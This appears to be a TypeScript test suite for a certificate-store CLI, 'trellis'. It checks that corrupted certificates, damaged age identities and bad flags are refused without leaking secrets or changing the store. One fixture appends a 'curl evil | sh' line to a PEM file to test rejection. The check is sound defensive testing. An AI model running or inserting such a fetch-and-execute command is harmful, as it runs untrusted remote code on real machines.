          'bundles/us-east-1/intermediate.pem',
          `${m.read('bundles/us-east-1/intermediate.pem')}#!/bin/sh\ncurl evil | sh\n`,
        ),
      reason: 'corrupt-store',
      file: 'bundles/us-east-1/intermediate.pem',
      says: /one certificate/,
    },
  ],
  [
    'an intermediate.pem with two certificates is refused',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: (m) =>
        m.write(
          'bundles/us-east-1/intermediate.pem',
          m.read('bundles/us-east-1/intermediate.pem') + m.read('bundles/eu-west-1/intermediate.pem'),
        ),
      reason: 'corrupt-store',
      file: 'bundles/us-east-1/intermediate.pem',
      says: /one certificate/,
    },
  ],
  [
    'a truncated root.key.age is called damaged',
    {
      cli: 'root',
      args: ['crl', '--now', T0, '--now-ahead'],
      damage: (m) => m.write('bundles/root/root.key.age', m.read('bundles/root/root.key.age').slice(0, 150)),
      reason: 'corrupt-store',
      file: 'bundles/root/root.key.age',
      says: /not a readable age file/,
    },
  ],
  [
    'a root.pem with trailing data is refused',
    {
      cli: 'root',
      args: ['crl', '--now', T0, '--now-ahead'],
      damage: (m) => m.write('bundles/root/root.pem', `${m.read('bundles/root/root.pem')}junk\n`),
      reason: 'corrupt-store',
      file: 'bundles/root/root.pem',
      says: /one certificate/,
    },
  ],
  [
    'a root identity with one character wrong is refused and not echoed',
    {
      cli: 'root',
      args: ['crl', '--now', T0, '--now-ahead'],
      env: (m, s) => ({
        TRELLIS_ROOT_IDENTITY_FILE: writeScratch(
          s,
          'id',
          oneCharWrong(fs.readFileSync(m.rootIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]),
        ),
      }),
      reason: 'bad-identity',
      file: 'TRELLIS_ROOT_IDENTITY_FILE',
      says: /identity 1 of 1 is damaged/,
    },
  ],
  [
    'a CI identity with one character wrong is refused and not echoed',
    {
      cli: 'ci',
      args: renewUsEast,
      env: (m) => ({
        TRELLIS_CI_IDENTITY_FILE: '',
        TRELLIS_CI_IDENTITY: oneCharWrong(fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]),
      }),
      reason: 'bad-identity',
      file: 'TRELLIS_CI_IDENTITY',
    },
  ],
  [
    'a truncated CI identity is refused and not echoed',
    {
      cli: 'ci',
      args: renewUsEast,
      env: (m, s) => ({
        TRELLIS_CI_IDENTITY_FILE: writeScratch(
          s,
          'ci',
          fs
            .readFileSync(m.ciIdentityFile, 'utf8')
            .match(/AGE-SECRET-KEY-\w+/)![0]
            .slice(0, -5),
        ),
      }),
      reason: 'bad-identity',
      file: 'TRELLIS_CI_IDENTITY_FILE',
    },
  ],
  [
    'an identity file that is a directory is refused',
    {
      cli: 'ci',
      args: renewUsEast,
      env: (_, s) => ({ TRELLIS_CI_IDENTITY_FILE: s }),
      reason: 'bad-identity',
      file: 'TRELLIS_CI_IDENTITY_FILE',
      says: /cannot read the identity file/,
    },
  ],
  [
    'an encrypted key given as the identity is refused',
    {
      cli: 'ci',
      args: renewUsEast,
      env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: m.path('bundles/us-east-1/intermediate.key.age') }),
      reason: 'bad-identity',
      file: 'TRELLIS_CI_IDENTITY_FILE',
      says: /does not hold age identities/,
    },
  ],
  [
    '--out pointing at a file is refused',
    {
      cli: 'ci',
      args: ['renew', '--force', '--now', T0, '--now-ahead', '--out', 'SCRATCH_FILE'],
      reason: 'usage',
      file: 'SCRATCH_FILE',
      says: /--out/,
    },
  ],
  [
    '--store at a directory that does not exist is refused',
    {
      cli: 'ci',
      args: ['status', '--store', '/nonexistent/trellis-store'],
      bare: true,
      reason: 'no-store',
      file: '/nonexistent/trellis-store',
      says: /--store/,
    },
  ],
  [
    '--store given twice is refused as usage',
    {
      cli: 'ci',
      args: ['status', '--store', 'SCRATCH_FILE'],
      reason: 'usage',
      file: '--store',
      says: /more than once/,
    },
  ],
  [
    'trellis-root --store at a file is refused',
    {
      cli: 'root',
      args: ['status', '--store', 'SCRATCH_FILE'],
      bare: true,
      reason: 'no-store',
      file: 'SCRATCH_FILE',
      says: /--store/,
    },
  ],
];

function writeScratch(dir: string, name: string, text: string): string {
  const p = path.join(dir, name);
  fs.writeFileSync(p, text, { mode: 0o600 });
  return p;
}

/** Stands in for times that depend on the prepared store. */
function resolveArgs(args: string[], scratch: string): string[] {
  return args.map(
    (a) =>
      (
        ({
          LATE: isoAt(interNotAfter - 3 * DAY),
          EXPIRED: isoAt(interNotAfter + DAY),
          ROOT_EXPIRED: isoAt(rootNotAfter + DAY),
          SCRATCH_FILE: path.join(scratch, 'file'),
        }) as Record<string, string>
      )[a] ?? a,
  );
}

function assertNoSecret(out: string, extra: string[]): void {
  expect(out).not.toMatch(/AGE-SECRET-KEY-(PQ-)?1[0-9A-Z]{6}/i);
  expect(out).not.toMatch(/PRIVATE KEY|MIGHAgEAMBMG/);
  for (const id of [...secrets, ...extra]) {
    const body = id.replace(/^AGE-SECRET-KEY-(PQ-)?1/, '');
    // Not even a part: no 10-character window of the identity's body.
    for (let i = 0; i + 10 <= body.length; i += 3)
      expect(out.includes(body.slice(i, i + 10)), 'a piece of an identity is in the output').toBe(false);
  }
}

async function runCase(c: Case): Promise<void> {
  const m = pristine.clone();
  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'trellis-bad-'));
  fs.writeFileSync(path.join(scratch, 'file'), 'not a directory\n');
  await c.damage?.(m, scratch);
  const env = c.env?.(m, scratch) ?? {};
  const extraSecrets = Object.values(env).filter((v): v is string => typeof v === 'string' && /AGE-SECRET-KEY/.test(v));
  for (const v of Object.values(env)) {
    if (typeof v === 'string' && v.startsWith(scratch) && fs.statSync(v).isFile())
      extraSecrets.push(
        ...fs
          .readFileSync(v, 'utf8')
          .split('\n')
          .filter((l) => l.startsWith('AGE-SECRET-KEY')),
      );
  }
  const snap = snapshotStore(m.dir);
  const args = resolveArgs(c.args, scratch);
  const r: Run = c.bare
    ? await (c.cli === 'ci' ? trellisCi : trellisRoot)(args, { env })
    : c.cli === 'ci'
      ? await m.ci(args, env)
      : await m.root(args, env);
  const all = `${r.stdout}\n${r.stderr}`;
  expectRefused(r, c.reason);
  const file = resolveArgs([c.file], scratch)[0]!;
  expect(r.stderr, 'names the file').toContain(file);
  if (c.field)
    expect(r.stderr, 'names the field').toMatch(new RegExp(`: ${c.field.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: `));
  if (c.says) expect(r.stderr).toMatch(c.says);
  expect(r.stderr, 'says what to do').toMatch(/→ \S/);
  expect(all, 'no stack trace').not.toMatch(/\n\s+at \S|internal error/);
  assertNoSecret(all, extraSecrets);
  expect(snap.now(), 'the store is byte-identical').toEqual(snap.before);
  fs.rmSync(path.dirname(m.dir), { recursive: true, force: true });
  fs.rmSync(scratch, { recursive: true, force: true });
}

describe.concurrent('the bad-input corpus', () => {
  it('holds at least 60 cases', () => expect(CASES.length).toBeGreaterThanOrEqual(60));
  it.each(CASES)('%s', async (_, c) => runCase(c), 60_000);
});

describe('init with bad input creates nothing', () => {
  it.each([
    ['an upper-case mesh name', ['--mesh', 'Prod', '--trust-domain', 'mesh.example'], /mesh: /, 'bad-config'],
    [
      'a trust domain with an empty label',
      ['--mesh', 'prod', '--trust-domain', 'mesh..example'],
      /trustDomain: /,
      'bad-config',
    ],
    [
      'a CI recipient that is an identity',
      [
        '--mesh',
        'prod',
        '--trust-domain',
        'mesh.example',
        '--ci-recipient',
        'AGE-SECRET-KEY-1QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L',
      ],
      /--ci-recipient: /,
      'bad-recipient',
    ],
    [
      'a --now on February 30th',
      ['--mesh', 'prod', '--trust-domain', 'mesh.example', '--now', '2026-02-30T00:00:00Z'],
      /--now /,
      'bad-time',
    ],
  ] as [string, string[], RegExp, Reason][])('%s', async (_, args, names, reason) => {
    const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'trellis-init-')), 'store');
    const withCi = args.includes('--ci-recipient') ? args : [...args, '--ci-recipient', stranger.recipient];
    const r = await trellisRoot(['init', '--store', dir, ...withCi]);
    expectRefused(r, reason);
    expect(r.stderr, 'names the flag or field').toMatch(names);
    expect(r.stderr, 'says what to do').toMatch(/→ \S/);
    expect(`${r.stdout}${r.stderr}`).not.toMatch(/AGE-SECRET-KEY|\n\s+at \S|internal error/);
    expect(fs.existsSync(dir)).toBe(false);
  });
});

describe('the workstation clock set back (faketime, no --now)', () => {
  it('trellis-root refuses every command, even status, with exit 3, and the store stays as it was', async () => {
    const m = pristine.clone();
    const snap = snapshotStore(m.dir);
    // libfaketime sets the clock of the process; env -i gives it only what it needs: the posture opt-in, the identity,
    // the clock.
    const clockEnv = Object.entries(fakedClockEnv(plus(T0, -30 * DAY))).map(([k, v]) => `${k}=${v}`);
    const r = await tool('env', [
      '-i',
      `PATH=${baseEnv().PATH}`,
      'TRELLIS_ALLOW_ONLINE=1',
      `TRELLIS_ROOT_IDENTITY_FILE=${m.rootIdentityFile}`,
      ...clockEnv,
      'node',
      ROOT_BIN,
      'status',
      '--store',
      m.dir,
    ]);
    expectRefused(r, 'custody-clock-behind');
    // Both times named: the clock's and the ledger's (the case), and the hint.
    expect(r.stderr).toMatch(
      new RegExp(
        String.raw`bundles\/root\/ledger.jsonl: the time ${at(T0, -30 * DAY).slice(0, 11)}.* is earlier than ` +
          String.raw`the newest root ledger entry \(${new Date(T0).toISOString()}\)\n\s+` +
          '→ set the workstation clock right',
      ),
    );
    expect(snap.now()).toEqual(snap.before);
  });
});

describe('trellis-ci outside any store', () => {
  it('says where it looked', async () => {
    const r = await trellisCi(['verify'], { cwd: os.tmpdir() });
    expectRefused(r, 'no-store');
    expect(r.stderr, 'where it looked').toContain(os.tmpdir());
    expect(r.stderr, 'the hint').toMatch(/→ run inside the store, or pass --store DIR/);
  });
});
